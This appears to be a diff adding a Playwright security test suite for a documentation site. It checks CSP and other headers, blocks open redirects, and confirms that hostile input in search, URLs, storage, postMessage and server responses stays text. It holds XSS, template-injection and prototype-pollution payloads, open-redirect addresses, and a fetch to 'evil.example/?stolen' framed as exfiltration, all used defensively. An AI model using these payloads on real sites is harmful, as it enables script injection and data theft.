@@ -1,0 +1,321 @@
+/** What the site's own policy and headers keep out, and that hostile input stays text. */
+import fs from 'node:fs';
+import http from 'node:http';
+import path from 'node:path';
+import type {Page} from '@playwright/test';
+import {BUILD_DIR} from '../../scripts/lib/build';
+import {STORED} from '../../src/config/storage';
+import {PAGE_KINDS} from '../support/pages';
+import {expect, hydrated, open, test} from '../support/site';
+import {stubSocial} from '../support/thirdParties';
+
+const LIST = '/api/clients/tags/list-tags/';
+
+/** Texts that run something where they are taken for HTML, an address or code. Each would set `window.hurt`. */
+const HOSTILE = [
+  '<img src=x onerror="window.hurt=1">',
+  '"><script>window.hurt=1</script>',
+  "'-(window.hurt=1)-'",
+  'javascript:window.hurt=1',
+  '<svg/onload=window.hurt=1>',
+  '{{constructor.constructor("window.hurt=1")()}}',
+  '</script><script>window.hurt=1</script>',
+  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
+] as const;
+
+const isHurt = (page: Page) => page.evaluate(() => 'hurt' in window);
+
+/** Elements that only hostile text can have made. */
+const planted = (page: Page) =>
+  page.locator('img[onerror], svg[onload], iframe[srcdoc], img[src="x"], a[href^="javascript:"]');
+
+async function expectUnhurt(page: Page, what: string): Promise<void> {
+  expect(await isHurt(page), what).toBe(false);
+  await expect(planted(page), what).toHaveCount(0);
+}
+
+test.beforeEach(async ({page}) => {
+  await stubSocial(page);
+});
+
+test.describe('every answer', () => {
+  for (const address of [
+    '/',
+    '/docs/',
+    '/nothing/',
+    '/assets/nothing.js',
+    '/openapi/clients.json',
+    '/problems/conflict_in_use/',
+  ])
+    test(`has the headers: ${address}`, async ({request}) => {
+      const headers = (await request.get(address)).headers();
+      const policy = headers['content-security-policy'] ?? '';
+      expect(policy).toContain("default-src 'none'");
+      expect(policy).toContain("frame-ancestors 'none'");
+      expect(policy).not.toMatch(/script-src[^;]*'unsafe-/);
+      expect(policy).toContain("require-trusted-types-for 'script'");
+      expect(headers['strict-transport-security']).toMatch(/max-age=\d{8}/);
+      expect(headers['x-content-type-options']).toBe('nosniff');
+      expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+      expect(headers['permissions-policy']).toContain('camera=()');
+      expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+    });
+
+  test('redirects keep to this site and keep the headers', async ({baseURL}) => {
+    const {hostname, port} = new URL(baseURL ?? '');
+    // Sent as they are: a browser would tidy these addresses up first.
+    const get = (path: string): Promise<http.IncomingMessage> =>
+      new Promise((resolve, reject) => {
+        http
+          .get({hostname, port, path}, (response) => {
+            response.resume();
+            resolve(response);
+          })
+          .on('error', reject);
+      });
+    for (const address of [
+      '/docs/index.html',
+      '/docs',
+      '//docs/index.html',
+      '/.//docs/index.html',
+      '//evil.example/docs/index.html',
+      '/.//evil.example%2F..%2Fdocs/index.html',
+      '/%5Cevil.example/..%2fdocs/index.html',
+    ]) {
+      const {headers} = await get(address);
+      if (headers.location !== undefined) expect(headers.location, address).toMatch(/^\/(?![/\\])/);
+      expect(headers['content-security-policy'], address).toBeDefined();
+    }
+  });
+});
+
+test('every page carries its policy before its first script, for hosts that send no headers', () => {
+  const pages = fs.readdirSync(BUILD_DIR, {recursive: true, encoding: 'utf8'}).filter((file) => file.endsWith('.html'));
+  expect(pages.length).toBeGreaterThan(800);
+  const bare = pages.filter((file) => {
+    const html = fs.readFileSync(path.join(BUILD_DIR, file), 'utf8');
+    const policy = html.indexOf('<meta http-equiv="Content-Security-Policy"');
+    const script = html.indexOf('<script');
+    return policy < 0 || (script >= 0 && script < policy);
+  });
+  expect(bare).toEqual([]);
+});
+
+test('no page has an event handler in an attribute', async ({page}) => {
+  test.setTimeout(120_000);
+  for (const [kind, address] of Object.entries(PAGE_KINDS)) {
+    await page.goto(address);
+    const handlers = await page.evaluate(() =>
+      [...document.querySelectorAll('*')].flatMap((element) =>
+        [...element.attributes].filter(({name}) => name.startsWith('on')).map(({name}) => name),
+      ),
+    );
+    expect(handlers, kind).toEqual([]);
+  }
+});
+
+test.describe('the policy refuses', () => {
+  const cases = {
+    'an inline script': () => {
+      const script = document.createElement('script');
+      script.type = 'text/javascript';
+      script.append('window.hurt = 1');
+      document.body.append(script);
+    },
+    'a handler in an attribute': () => {
+      const image = document.createElement('img');
+      try {
+        image.setAttribute('onerror', 'window.hurt = 1');
+      } catch {
+        // Trusted Types throw.
+      }
+      image.src = 'data:,';
+      document.body.append(image);
+    },
+    'text as code': () => {
+      try {
+        window.setTimeout('window.hurt = 1');
+      } catch {
+        // Trusted Types throw.
+      }
+    },
+    'a script of another host': () => {
+      const script = document.createElement('script');
+      try {
+        script.src = 'https://evil.example/x.js';
+      } catch {
+        // Trusted Types throw.
+      }
+      document.body.append(script);
+    },
+    'a frame': () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    },
+    'a call to another host': () => {
+      void fetch('https://evil.example/?stolen').catch(() => undefined);
+    },
+  } as const;
+  for (const [what, act] of Object.entries(cases))
+    test(what, async ({page, violations}) => {
+      const asked: string[] = [];
+      page.on('request', (request) => {
+        if (request.url().includes('evil.example')) asked.push(request.url());
+      });
+      await open(page, '/docs/');
+      await page.evaluate(act);
+      await expect.poll(() => violations.length).toBeGreaterThan(0);
+      violations.length = 0;
+      expect(await isHurt(page)).toBe(false);
+      expect(asked).toEqual([]);
+    });
+});
+
+test.describe('hostile input stays text', () => {
+  test('in the search, by address and by typing', async ({page}) => {
+    test.setTimeout(120_000);
+    for (const text of HOSTILE) {
+      await page.goto(`/search/?q=${encodeURIComponent(text)}`);
+      await hydrated(page);
+      await expect(page.getByRole('main').locator('input[type="search"]').first()).toHaveValue(text);
+      await expectUnhurt(page, text);
+    }
+    await open(page, '/docs/');
+    await page.keyboard.press('/');
+    for (const text of HOSTILE) {
+      await page.getByRole('dialog').locator('input').fill(text);
+      await expectUnhurt(page, text);
+    }
+  });
+
+  test('in hashes and query strings of every kind of page', async ({page}) => {
+    test.setTimeout(240_000);
+    for (const [at, [kind, address]] of Object.entries(PAGE_KINDS).entries()) {
+      const text = encodeURIComponent(HOSTILE[at % HOSTILE.length] ?? '');
+      await page.goto(
+        `${address}?q=${text}&docusaurus-theme=${text}&docusaurus-data-x=${text}&tab=${text}&next=//evil.example#${text}`,
+      );
+      await hydrated(page);
+      await expectUnhurt(page, kind);
+      expect(new URL(page.url()).host, kind).toMatch(/^localhost/);
+    }
+  });
+
+  const BAD_VALUES = [
+    ...HOSTILE.slice(0, 4),
+    '',
+    'null',
+    '{',
+    '[[[',
+    '{"__proto__":{"hurt":1}}',
+    '[null,{"url":"javascript:window.hurt=1","title":"x","part":"y"}]',
+    '{"recent":[{"url":"javascript:window.hurt=1","title":"x","part":"y"}],"favourite":[]}',
+    '{"base":"javascript:window.hurt=1","key":"<b>"}',
+    '1e999',
+    'true',
+  ];
+
+  for (const value of BAD_VALUES)
+    test(`in each stored entry: ${value || 'nothing'}`, async ({page, faults}) => {
+      await page.addInitScript(
+        ([items, text]) => {
+          for (const {key, prefix, where} of items) {
+            if (where === 'cookie') continue;
+            const store = where === 'local' ? localStorage : sessionStorage;
+            for (const name of prefix ? [`${key}default`, `${key}language`, `${key}replenish-a-location`] : [key])
+              store.setItem(name, text);
+          }
+        },
+        [STORED, value] as const,
+      );
+      for (const address of ['/', LIST, '/docs/tutorial/', '/guides/journeys/replenish-a-location/']) {
+        await page.goto(address);
+        await hydrated(page);
+        await expect(page.getByRole('heading', {level: 1})).toBeVisible();
+        await expectUnhurt(page, address);
+      }
+      await page.goto(LIST);
+      await hydrated(page);
+      await page.getByRole('button', {name: 'Try it'}).click();
+      await expect(page.getByRole('heading', {name: /^Try it/})).toBeVisible();
+      await page.keyboard.press('Escape');
+      await page
+        .getByRole('button', {name: /^Search/})
+        .first()
+        .click();
+      await expect(page.getByRole('dialog').locator('input')).toBeVisible();
+      await expectUnhurt(page, 'search and console');
+      expect(faults.filter((fault) => !/hurt/.test(fault))).toEqual([]);
+    });
+
+  test('in messages to the window', async ({page, faults}) => {
+    await open(page, '/search/?q=tags');
+    await page.evaluate((texts) => {
+      for (const text of texts) {
+        window.postMessage(text, '*');
+        window.postMessage({type: text, kind: 'changed', id: 1, html: text, url: text}, '*');
+      }
+    }, HOSTILE);
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
+    await expectUnhurt(page, 'messages');
+    expect(faults).toEqual([]);
+  });
+
+  test('in answers of a server that the console calls', async ({page}) => {
+    test.setTimeout(120_000);
+    const html = `<html><body>${HOSTILE.join('')}</body></html>`;
+    const json = JSON.stringify(Object.fromEntries(HOSTILE.map((text) => [text, {id: text, items: [text]}])));
+    for (const [contentType, body] of [
+      ['text/html', html],
+      ['application/json', json],
+      ['text/javascript', 'window.hurt = 1'],
+      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hurt=1"/>'],
+    ] as const) {
+      await page.route('http://localhost:9/**', (route) =>
+        route.fulfill({
+          status: 200,
+          headers: {
+            'Content-Type': contentType,
+            'Access-Control-Allow-Origin': '*',
+            'Access-Control-Allow-Headers': '*, Authorization',
+            'X-Odd': HOSTILE[0],
+          },
+          body,
+        }),
+      );
+      await open(page, LIST);
+      await page.getByRole('button', {name: 'Try it'}).click();
+      await page.getByRole('radio', {name: 'Another server'}).check();
+      await page.getByLabel('Base URL').fill('http://localhost:9');
+      await page.getByLabel('Your key').fill('k');
+      await page.getByRole('button', {name: /^Send/}).click();
+      await expect(page.getByText('200 OK').first()).toBeVisible();
+      await expectUnhurt(page, contentType);
+    }
+  });
+});
+
+test('the console says which policy keeps it from a server', async ({page, violations}) => {
+  await open(page, LIST);
+  await page.getByRole('button', {name: 'Try it'}).click();
+  await page.getByRole('radio', {name: 'Another server'}).check();
+  await page.getByLabel('Base URL').fill('https://evil.example');
+  await page.getByLabel('Your key').fill('k');
+  await page.getByRole('button', {name: /^Send/}).click();
+  await expect(page.getByText('This site may not call that server')).toBeVisible();
+  violations.length = 0;
+});
+
+test('no link leads a reader off the site unseen', async ({page}) => {
+  await page.goto('/');
+  // Addresses that only look like this site's own.
+  for (const address of [
+    '/problems/%2F%2Fevil.example/',
+    '/problems/conflict_in_use/?url=//evil.example',
+    '/docs/..%2F..%2F%2Fevil.example/',
+  ]) {
+    await page.goto(address);
+    expect(new URL(page.url()).host, address).toMatch(/^localhost/);
+  }
+});
